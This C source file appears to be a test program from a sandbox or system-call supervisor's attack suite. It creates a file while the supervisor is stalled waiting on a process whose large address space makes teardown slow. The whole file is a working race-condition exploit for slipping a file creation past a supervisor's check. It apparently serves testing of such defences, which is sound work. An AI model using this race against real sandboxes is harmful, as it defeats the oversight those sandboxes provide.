/* Creates a file while the supervisor waits for a thread of the command: `stall NEW GO`. A process with a large
   address space sets its umask and starts a program. The kernel tells nothing of its system call until all of its
   memory is freed. Creates the file GO when it begins. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define GIB (1UL << 30)
/* Its page tables take 24 MiB, and about 200 ms to free. */
#define COUNT 12

static void make_large(void) {
    for (int i = 0; i < COUNT; i++) {
        void *memory = mmap(NULL, GIB, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (memory == MAP_FAILED || madvise(memory, GIB, MADV_NOHUGEPAGE) || madvise(memory, GIB, 22))
            return;
    }
}

int main(int count, char **arguments) {
    int ready[2], go[2];
    char byte;
    if (count != 3 || pipe(ready) || pipe(go))
        return 1;
    pid_t large = fork();
    if (large == 0) {
        make_large();
        if (write(ready[1], "", 1) != 1 || close(go[1]) || read(go[0], &byte, 1) != 0)
            _exit(1);
        umask(022);
        if (write(ready[1], "", 1) != 1)
            _exit(1);
        execl("/bin/true", "true", NULL);
        _exit(1);
    }
    if (read(ready[0], &byte, 1) != 1)
        return 1;
    close(open(arguments[2], O_CREAT | O_WRONLY, 0644));
    close(go[1]);
    if (read(ready[0], &byte, 1) != 1)
        return 1;
    struct timespec soon = {.tv_nsec = 3000000};
    nanosleep(&soon, NULL);
    int file = open(arguments[1], O_CREAT | O_EXCL | O_WRONLY, 0755);
    puts(file < 0 ? strerror(errno) : "created");
    waitpid(large, NULL, 0);
    return 0;
}
